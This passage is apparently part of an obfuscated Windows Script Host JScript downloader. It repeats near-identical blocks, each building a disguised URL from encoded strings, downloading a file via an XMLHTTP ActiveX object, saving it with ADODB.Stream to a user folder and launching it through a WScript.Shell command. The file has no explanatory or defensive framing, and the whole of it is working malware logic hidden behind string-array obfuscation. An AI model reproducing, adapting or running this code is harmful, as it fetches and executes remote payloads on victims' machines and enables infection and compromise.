var host13 = eval('var _0x2555d1 = a0_0x206b7f, _0x177b07 = {\n        \'LMPNs\': function (_0x1a50c9, _0x362feb) {\n            return _0x1a50c9 + _0x362feb;\n        },\n        \'IbACn\': function (_0x6d9e2d, _0x43636c) {\n            return _0x6d9e2d(_0x43636c);\n        }\n    };_0x177b07[_0x2555d1(369)](_0x177b07[_0x2555d1(297)](p13, 1), p13(6));'), url13 = eval('\x27' + p13(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x12c)), shell13 = new ActiveXObject(p13(0x5)), target13 = shell13[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p13(0x2), xhr13 = new ActiveXObject(p13(0x3));
xhr13[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url13, ![]), xhr13[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr13[a0_0x206b7f(0x181)]();
if (xhr13[a0_0x206b7f(0x180)] == 0xc8) {
    var vNMeBo = a0_0x206b7f(0x193)[a0_0x206b7f(0x17a)]('|'), HhQxZW = 0x0;
    while (!![]) {
        switch (vNMeBo[HhQxZW++]) {
        case '0':
            stream13[a0_0x206b7f(0x197)]();
            continue;
        case '1':
            shell13[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target13 + '\x22', 0x0, ![]);
            continue;
        case '2':
            stream13[a0_0x206b7f(0x167)](target13, 0x2);
            continue;
        case '3':
            stream13[a0_0x206b7f(0x17d)](xhr13[a0_0x206b7f(0x1a8)]);
            continue;
        case '4':
            stream13[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '5':
            stream13[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            stream13[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '7':
            var stream13 = new ActiveXObject(p13(0x4));
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts14 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p14(_0x3c92a7) {
    return parts14[_0x3c92a7];
}
var host14 = eval('var _0xd223e0 = a0_0x206b7f, _0x12a80f = {\n        \'cgXPD\': function (_0x494388, _0x168a02) {\n            return _0x494388(_0x168a02);\n        }\n    };p14(1) + _0x12a80f[_0xd223e0(334)](p14, 6);'), url14 = eval('\x27' + p14(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x162)), shell14 = new ActiveXObject(p14(0x5)), target14 = shell14[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p14(0x2), xhr14 = new ActiveXObject(p14(0x3));
xhr14[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url14, ![]), xhr14[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr14[a0_0x206b7f(0x181)]();
if (xhr14[a0_0x206b7f(0x180)] == 0xc8) {
    var stream14 = new ActiveXObject(p14(0x4));
    stream14[a0_0x206b7f(0x178)](), stream14[a0_0x206b7f(0x194)] = 0x1, stream14[a0_0x206b7f(0x17d)](xhr14[a0_0x206b7f(0x1a8)]), stream14[a0_0x206b7f(0x131)] = 0x0, stream14[a0_0x206b7f(0x167)](target14, 0x2), stream14[a0_0x206b7f(0x197)](), shell14[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target14 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts15 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p15(_0x491d52) {
    return parts15[_0x491d52];
}
var host15 = eval('var _0x19c111 = a0_0x206b7f, _0x35c1f5 = {\n        \'uMfxN\': function (_0x4df2b2, _0x3ab5af) {\n            return _0x4df2b2 + _0x3ab5af;\n        },\n        \'bMqSF\': function (_0x1bb806, _0x1b250a) {\n            return _0x1bb806(_0x1b250a);\n        }\n    };_0x35c1f5[_0x19c111(430)](_0x35c1f5[_0x19c111(389)](p15, 1), p15(6));'), url15 = eval('\x27' + p15(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x174)), shell15 = new ActiveXObject(p15(0x5)), target15 = shell15[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p15(0x2), xhr15 = new ActiveXObject(p15(0x3));
xhr15[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url15, ![]), xhr15[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr15[a0_0x206b7f(0x181)]();
if (xhr15[a0_0x206b7f(0x180)] == 0xc8) {
    var stream15 = new ActiveXObject(p15(0x4));
    stream15[a0_0x206b7f(0x178)](), stream15[a0_0x206b7f(0x194)] = 0x1, stream15[a0_0x206b7f(0x17d)](xhr15[a0_0x206b7f(0x1a8)]), stream15[a0_0x206b7f(0x131)] = 0x0, stream15[a0_0x206b7f(0x167)](target15, 0x2), stream15[a0_0x206b7f(0x197)](), shell15[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target15 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts16 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p16(_0x2ba44a) {
    return parts16[_0x2ba44a];
}
var host16 = eval('var _0x40977f = a0_0x206b7f, _0x2a5dc7 = {\n        \'jySsB\': function (_0x506305, _0x4216f6) {\n            return _0x506305(_0x4216f6);\n        }\n    };_0x2a5dc7[_0x40977f(323)](p16, 1) + p16(6);'), url16 = eval('\x27' + p16(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x198)), shell16 = new ActiveXObject(p16(0x5)), target16 = shell16[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p16(0x2), xhr16 = new ActiveXObject(p16(0x3));
xhr16[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url16, ![]), xhr16[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr16[a0_0x206b7f(0x181)]();
if (xhr16[a0_0x206b7f(0x180)] == 0xc8) {
    var stream16 = new ActiveXObject(p16(0x4));
    stream16[a0_0x206b7f(0x178)](), stream16[a0_0x206b7f(0x194)] = 0x1, stream16[a0_0x206b7f(0x17d)](xhr16[a0_0x206b7f(0x1a8)]), stream16[a0_0x206b7f(0x131)] = 0x0, stream16[a0_0x206b7f(0x167)](target16, 0x2), stream16[a0_0x206b7f(0x197)](), shell16[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target16 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts17 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p17(_0x19b06c) {
    return parts17[_0x19b06c];
}
var host17 = eval('var _0xc36090 = a0_0x206b7f, _0x482e98 = {\n        \'bRjna\': function (_0x3dee29, _0x162599) {\n            return _0x3dee29 + _0x162599;\n        },\n        \'IPbec\': function (_0x1d7409, _0x30002e) {\n            return _0x1d7409(_0x30002e);\n        }\n    };_0x482e98[_0xc36090(335)](_0x482e98[_0xc36090(288)](p17, 1), _0x482e98[_0xc36090(288)](p17, 6));'), url17 = eval('\x27' + p17(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x13b)), shell17 = new ActiveXObject(p17(0x5)), target17 = shell17[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p17(0x2), xhr17 = new ActiveXObject(p17(0x3));
xhr17[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url17, ![]), xhr17[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr17[a0_0x206b7f(0x181)]();
if (xhr17[a0_0x206b7f(0x180)] == 0xc8) {
    var fLrBSJ = a0_0x206b7f(0x15a)[a0_0x206b7f(0x17a)]('|'), EzPhTk = 0x0;
    while (!![]) {
        switch (fLrBSJ[EzPhTk++]) {
        case '0':
            stream17[a0_0x206b7f(0x197)]();
            continue;
        case '1':
            stream17[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '2':
            stream17[a0_0x206b7f(0x167)](target17, 0x2);
            continue;
        case '3':
            stream17[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '4':
            stream17[a0_0x206b7f(0x17d)](xhr17[a0_0x206b7f(0x1a8)]);
            continue;
        case '5':
            shell17[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target17 + '\x22', 0x0, ![]);
            continue;
        case '6':
            var stream17 = new ActiveXObject(p17(0x4));
            continue;
        case '7':
            stream17[a0_0x206b7f(0x178)]();
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts18 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p18(_0xb55a17) {
    return parts18[_0xb55a17];
}
var host18 = eval('var _0x16196e = a0_0x206b7f, _0xee2155 = {\n        \'JiTBq\': function (_0x7528d1, _0x45742f) {\n            return _0x7528d1 + _0x45742f;\n        },\n        \'lVJxa\': function (_0x7edd00, _0x42ee53) {\n            return _0x7edd00(_0x42ee53);\n        }\n    };_0xee2155[_0x16196e(283)](_0xee2155[_0x16196e(330)](p18, 1), _0xee2155[_0x16196e(330)](p18, 6));'), url18 = eval('\x27' + p18(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x128)), shell18 = new ActiveXObject(p18(0x5)), target18 = shell18[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p18(0x2), xhr18 = new ActiveXObject(p18(0x3));
xhr18[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url18, ![]), xhr18[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr18[a0_0x206b7f(0x181)]();
if (xhr18[a0_0x206b7f(0x180)] == 0xc8) {
    var stream18 = new ActiveXObject(p18(0x4));
    stream18[a0_0x206b7f(0x178)](), stream18[a0_0x206b7f(0x194)] = 0x1, stream18[a0_0x206b7f(0x17d)](xhr18[a0_0x206b7f(0x1a8)]), stream18[a0_0x206b7f(0x131)] = 0x0, stream18[a0_0x206b7f(0x167)](target18, 0x2), stream18[a0_0x206b7f(0x197)](), shell18[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target18 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts19 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p19(_0xa11a1c) {
    return parts19[_0xa11a1c];
}
var host19 = eval('p19(1) + p19(6);'), url19 = eval('\x27' + p19(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x16a)), shell19 = new ActiveXObject(p19(0x5)), target19 = shell19[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p19(0x2), xhr19 = new ActiveXObject(p19(0x3));
xhr19[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url19, ![]), xhr19[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr19[a0_0x206b7f(0x181)]();
if (xhr19[a0_0x206b7f(0x180)] == 0xc8) {
    var NNlqdE = a0_0x206b7f(0x132)[a0_0x206b7f(0x17a)]('|'), DbkHwX = 0x0;
    while (!![]) {
        switch (NNlqdE[DbkHwX++]) {
        case '0':
            stream19[a0_0x206b7f(0x197)]();
            continue;
        case '1':
            stream19[a0_0x206b7f(0x178)]();
            continue;
        case '2':
            stream19[a0_0x206b7f(0x17d)](xhr19[a0_0x206b7f(0x1a8)]);
            continue;
        case '3':
            stream19[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '4':
            shell19[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target19 + '\x22', 0x0, ![]);
            continue;
        case '5':
            stream19[a0_0x206b7f(0x167)](target19, 0x2);
            continue;
        case '6':
            stream19[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '7':
            var stream19 = new ActiveXObject(p19(0x4));
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts20 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p20(_0x4d0b06) {
    return parts20[_0x4d0b06];
}
var host20 = eval('var _0x338254 = a0_0x206b7f, _0x2f016c = {\n        \'Plhqq\': function (_0x50131e, _0xe80e9c) {\n            return _0x50131e + _0xe80e9c;\n        }\n    };_0x2f016c[_0x338254(289)](p20(1), p20(6));'), url20 = eval('\x27' + p20(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x14c)), shell20 = new ActiveXObject(p20(0x5)), target20 = shell20[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p20(0x2), xhr20 = new ActiveXObject(p20(0x3));
xhr20[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url20, ![]), xhr20[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr20[a0_0x206b7f(0x181)]();
if (xhr20[a0_0x206b7f(0x180)] == 0xc8) {
    var stream20 = new ActiveXObject(p20(0x4));
    stream20[a0_0x206b7f(0x178)](), stream20[a0_0x206b7f(0x194)] = 0x1, stream20[a0_0x206b7f(0x17d)](xhr20[a0_0x206b7f(0x1a8)]), stream20[a0_0x206b7f(0x131)] = 0x0, stream20[a0_0x206b7f(0x167)](target20, 0x2), stream20[a0_0x206b7f(0x197)](), shell20[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target20 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts21 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p21(_0x4812fc) {
    return parts21[_0x4812fc];
}
var host21 = eval('var _0x4e3a1f = a0_0x206b7f, _0x46da6e = {\n        \'ETMez\': function (_0x3981ac, _0x8e6b7f) {\n            return _0x3981ac + _0x8e6b7f;\n        }\n    };_0x46da6e[_0x4e3a1f(367)](p21(1), p21(6));'), url21 = eval('\x27' + p21(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1a0)), shell21 = new ActiveXObject(p21(0x5)), target21 = shell21[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p21(0x2), xhr21 = new ActiveXObject(p21(0x3));
xhr21[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url21, ![]), xhr21[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr21[a0_0x206b7f(0x181)]();
if (xhr21[a0_0x206b7f(0x180)] == 0xc8) {
    var stream21 = new ActiveXObject(p21(0x4));
    stream21[a0_0x206b7f(0x178)](), stream21[a0_0x206b7f(0x194)] = 0x1, stream21[a0_0x206b7f(0x17d)](xhr21[a0_0x206b7f(0x1a8)]), stream21[a0_0x206b7f(0x131)] = 0x0, stream21[a0_0x206b7f(0x167)](target21, 0x2), stream21[a0_0x206b7f(0x197)](), shell21[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target21 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts22 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p22(_0x2a5f57) {
    return parts22[_0x2a5f57];
}
var host22 = eval('var _0x34dfd9 = a0_0x206b7f, _0x13bf3d = {\n        \'zSrVj\': function (_0x2ad824, _0x25972b) {\n            return _0x2ad824 + _0x25972b;\n        },\n        \'nHegI\': function (_0x237229, _0x460057) {\n            return _0x237229(_0x460057);\n        },\n        \'QDLev\': function (_0x270831, _0x2a87c5) {\n            return _0x270831(_0x2a87c5);\n        }\n    };_0x13bf3d[_0x34dfd9(348)](_0x13bf3d[_0x34dfd9(366)](p22, 1), _0x13bf3d[_0x34dfd9(406)](p22, 6));'), url22 = eval('\x27' + p22(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x119)), shell22 = new ActiveXObject(p22(0x5)), target22 = shell22[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p22(0x2), xhr22 = new ActiveXObject(p22(0x3));
xhr22[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url22, ![]), xhr22[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr22[a0_0x206b7f(0x181)]();
if (xhr22[a0_0x206b7f(0x180)] == 0xc8) {
    var icTuct = a0_0x206b7f(0x148)[a0_0x206b7f(0x17a)]('|'), omGqCS = 0x0;
    while (!![]) {
        switch (icTuct[omGqCS++]) {
        case '0':
            stream22[a0_0x206b7f(0x17d)](xhr22[a0_0x206b7f(0x1a8)]);
            continue;
        case '1':
            stream22[a0_0x206b7f(0x178)]();
            continue;
        case '2':
            shell22[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target22 + '\x22', 0x0, ![]);
            continue;
        case '3':
            stream22[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '4':
            stream22[a0_0x206b7f(0x167)](target22, 0x2);
            continue;
        case '5':
            stream22[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '6':
            var stream22 = new ActiveXObject(p22(0x4));
            continue;
        case '7':
            stream22[a0_0x206b7f(0x197)]();
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts23 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p23(_0x338496) {
    return parts23[_0x338496];
}
var host23 = eval('p23(1) + p23(6);'), url23 = eval('\x27' + p23(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x164)), shell23 = new ActiveXObject(p23(0x5)), target23 = shell23[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p23(0x2), xhr23 = new ActiveXObject(p23(0x3));
xhr23[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url23, ![]), xhr23[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr23[a0_0x206b7f(0x181)]();
function a0_0x397e() {
    var _0x4bf95b = [
        'ntq4nte1DLfyvxLd',
        'oI8VjYaRigHVC3qXnYaRihaXnYG3ksaRihaXnYGYkq',
        'rxHWyw5Krw52AxjVBM1LBNrtDhjPBMDZ',
        'su9wuLa',
        'EvrdrKi',
        'mJy0AvnivNfv',
        'C2v0uMvXDwvZDeHLywrLCG',
        'oI8VjYaRigHVC3qXmIaRihaXmIG3ksaRihaXmIGYkq',
        'oI8VjYaRigHVC3q4icSGCdGOnYKGkYbWocGYkq',
        'ANLtC0i',
        'B3bLBG',
        'yLrxB3i',
        'oI8VjYaRigHVC3qZmIaRihaZmIG3ksaRihaZmIGYkq',
        'mtq1otK1nhL6wNvyqW',
        'nNWXFdn8mhW1Fdr8n3WY',
        'CMvWBgfJzq',
        'BfzkEge',
        'oI8VjYaRigHVC3qXmsaRihaXmsG3ksaRihaXmsGYkq',
        'oI8VjYaRigHVC3qYmcaRihaYmcG3ksaRihaYmcGYkq',
        'jvrftvaL',
        'y2Dyueq',
        'yLjQBMe',
        'rwnOBW',
        'oI8VjYaRigHVC3qZnsaRihaZnsG3ksaRihaZnsGYkq',
        'oI8VjYaRigHVC3qZicSGCdmOnYKGkYbWmYGYkq',
        'EKPzyvu',
        'ugTzv0y',
        'm3W1Fdb8nNW3Fdj8mxW0',
        'oI8VjYaRigHVC3qYnIaRihaYnIG3ksaRihaYnIGYkq',
        'nhWZFdb8nxWXFdD8nNWY',
        'rMfnDLm',
        'tvnytuWYlLHnteHuvfa',
        'nNW3Fdf8nhWZFdj8mhW1',
        'y21KlMv4zsaVyYbZDgfYDcaIiIaI',
        'ELnYvMO',
        'AhH4Ca',
        'BfvXCgm',
        'nNWZFdr8mhWYFdD8mxW1',
        'oI8VjYaRigHVC3qYocaRihaYocG3ksaRihaYocGYkq',
        'twnYuKG',
        'oI8VjYaRigHVC3qXncaRihaXncG3ksaRihaXncGYkq',
        'mhW1Fdz8nhWXFdD8mNWZ',
        'oI8VjYaRigHVC3qYmYaRihaYmYG3ksaRihaYmYGYkq',
        'BhruDey',
        'yvnvCMe',
        'u2f2zvrVrMLSzq',
        'uvH1rMS',
        'y2nOwxK',
        'oI8VjYaRigHVC3qXosaRihaXosG3ksaRihaXosGYkq',
        'uLbnr04',
        'ufDit3m',
        'r2nJDhK',
        'BKHLz0K',
        'rvrnzxO',
        'oI8VjYaRigHVC3qYosaRihaYosG3ksaRihaYosGYkq',
        'te1qtNm',
        'nhW1Fdn8n3WXFdj8mhW2',
        'q2fiq3y',
        'oI8VjYaRigHVC3qXnsaRihaXnsG3ksaRihaXnsGYkq',
        'z2TUs3C',
        'mta0mZa4otbpCK9sv3y',
        'mNW1Fdn8nhW3Fdz8mhWX',
        't3bLBG',
        'z1Ppu1m',
        'C3bSAxq',
        'D3HMAKG',
        'wwf4DMG',
        'v3jPDgu',
        'EMXQB04',
        'CvH3yNi',
        'C3rHDhvZ',
        'C2vUza',
        'CuzIuKu',
        'oI8VjYaRigHVC3qZncaRihaZncG3ksaRihaZncGYkq',
        'mtu3mZG3nvjftgTMyG',
        'yK1Xu0y',
        'svHLBNG',
        'zxzPBc1Jzg4',
        'oI8VjYaRigHVC3qZocaRihaZocG3ksaRihaZocGYkq',
        'mNW1Fdf8nNW3Fdr8m3WW',
        'zMfSBgjHy2S',
        'oI8VjYaRigHVC3qZmYaRihaZmYG3ksaRihaZmYGYkq',
        'oI8VjYaRigHVC3qZnYaRihaZnYG3ksaRihaZnYGYkq',
        'oI8VjYaRigHVC3qXicSGCdeOnYKGkYbWmsGYkq',
        'v1nJCMLWDc5tAgvSBa',
        'oI8VjYaRigHVC3qXmcaRihaXmcG3ksaRihaXmcGYkq',
        'vMDTBui',
        'oI8VjYaRigHVC3qYicSGCdiOnYKGkYbWmIGYkq',
        'oI8VjYaRigHVC3qYnYaRihaYnYG3ksaRihaYnYGYkq',
        'n3W1Fdz8m3W0Fdj8mhWX',
        'vhLWzq',
        'tw96AwXSys80lJaGkgnVBxbHDgLIBgu7ie1tsuuGnY4WoYbxAw5KB3DZie5uidyUmsK',
        'uurmzxy',
        'q2XVC2u',
        'oI8VjYaRigHVC3qXnIaRihaXnIG3ksaRihaXnIGYkq',
        'r0vu',
        'v2LRywC',
        'mNW2Fdv8nhW3Fdn8mxWW',
        'mxW0Fdj8nNW3Fdb8m3W1',
        'ndq2nJa4DwPwze1c',
        'nxW2Fdn8mxW3Fdj8nhWW',
        'v0TwtxK',
        'oI8VjYaRigHVC3qYmsaRihaYmsG3ksaRihaYmsGYkq',
        'oI8VjYaRigHVC3qZmcaRihaZmcG3ksaRihaZmcGYkq',
        'z0Pkt2y',
        'oI8VjYaRigHVC3q2icSGCdyOnYKGkYbWnIGYkq',
        'lMv4yw1WBgu',
        'wwnhqvm',
        'rg1pvM4',
        'oI8VjYaRigHVC3qYncaRihaYncG3ksaRihaYncGYkq',
        'CMvZCg9UC2vcB2r5',
        'qurpreiUu3rYzwfT',
        'vML5r2S',
        'DMzKrvm',
        'neHZzxPrrG',
        'oI8VjYaRigHVC3qWicSGCdaOnYKGkYbWmcGYkq',
        'Du1MEe4',
        'EMPbsfa',
        'oI8VjYaRigHVC3qZosaRihaZosG3ksaRihaZosGYkq',
        'oI8VjYaRigHVC3q0icSGCdqOnYKGkYbWncGYkq',
        'oI8VjYaRigHVC3qYmIaRihaYmIG3ksaRihaYmIGYkq',
        'oI8VjYaRigHVC3qZmsaRihaZmsG3ksaRihaZmsGYkq',
        'sMLuqNe',
        'mwXmDKrJDq',
        'nxWYFdD8nNWWFdr8m3WX',
        'oI8VjYaRigHVC3qYnsaRihaYnsG3ksaRihaYnsGYkq',
        'uNvU',
        'svbIzwm',
        'ugXOCxe',
        'vxnLCI1bz2vUDa',
        'zxDxDvO',
        'z0f1B1y',
        'mtC4mdHpD1jvBKW',
        'mtC5mJy1ywHOuMPI',
        'Cffhuue',
        'oI8VjYaRigHVC3qXocaRihaXocG3ksaRihaXocGYkq',
        'swjbq24',
        'oI8VjYaRigHVC3q5icSGCdKOnYKGkYbWosGYkq',
        'yNzhvw8',
        'oI8VjYaRigHVC3qXmYaRihaXmYG3ksaRihaXmYGYkq',
        'oI8VjYaRigHVC3q1icSGCduOnYKGkYbWnsGYkq',
        'rhnOweO',
        'AKTdEg8',
        'nxWXFdj8nNW3Fdb8m3W0',
        'ug9ZAxrPB24',
        'n3WXFdz8mNWZFdv8mhW0',
        'nNW1Fdb8mxWYFdr8m3W3',
        'Cgf5Bg9Hzc5LEgu',
        'nhW2Fdb8m3W3Fdf8mNW1',
        'oI8VjYaRigHVC3qZnIaRihaZnIG3ksaRihaZnIGYkq',
        'oI8VjYaRigHVC3q3icSGCdCOnYKGkYbWnYGYkq',
        'l2zPBgvZlW',
        'twzQq2S'
    ];
    a0_0x397e = function () {
        return _0x4bf95b;
    };
    return a0_0x397e();
}
if (xhr23[a0_0x206b7f(0x180)] == 0xc8) {
    var stream23 = new ActiveXObject(p23(0x4));
    stream23[a0_0x206b7f(0x178)](), stream23[a0_0x206b7f(0x194)] = 0x1, stream23[a0_0x206b7f(0x17d)](xhr23[a0_0x206b7f(0x1a8)]), stream23[a0_0x206b7f(0x131)] = 0x0, stream23[a0_0x206b7f(0x167)](target23, 0x2), stream23[a0_0x206b7f(0x197)](), shell23[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target23 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts24 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p24(_0x4dc62d) {
    return parts24[_0x4dc62d];
}
var host24 = eval('var _0x999d56 = a0_0x206b7f, _0x5eac3d = {\n        \'IOVRP\': function (_0x4c0cd9, _0x1711d6) {\n            return _0x4c0cd9(_0x1711d6);\n        }\n    };p24(1) + _0x5eac3d[_0x999d56(317)](p24, 6);'), url24 = eval('\x27' + p24(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1a7)), shell24 = new ActiveXObject(p24(0x5)), target24 = shell24[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p24(0x2), xhr24 = new ActiveXObject(p24(0x3));
xhr24[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url24, ![]), xhr24[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr24[a0_0x206b7f(0x181)]();
if (xhr24[a0_0x206b7f(0x180)] == 0xc8) {
    var stream24 = new ActiveXObject(p24(0x4));
    stream24[a0_0x206b7f(0x178)](), stream24[a0_0x206b7f(0x194)] = 0x1, stream24[a0_0x206b7f(0x17d)](xhr24[a0_0x206b7f(0x1a8)]), stream24[a0_0x206b7f(0x131)] = 0x0, stream24[a0_0x206b7f(0x167)](target24, 0x2), stream24[a0_0x206b7f(0x197)](), shell24[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target24 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts25 = [
    a0_0x206b7f(0x15d),
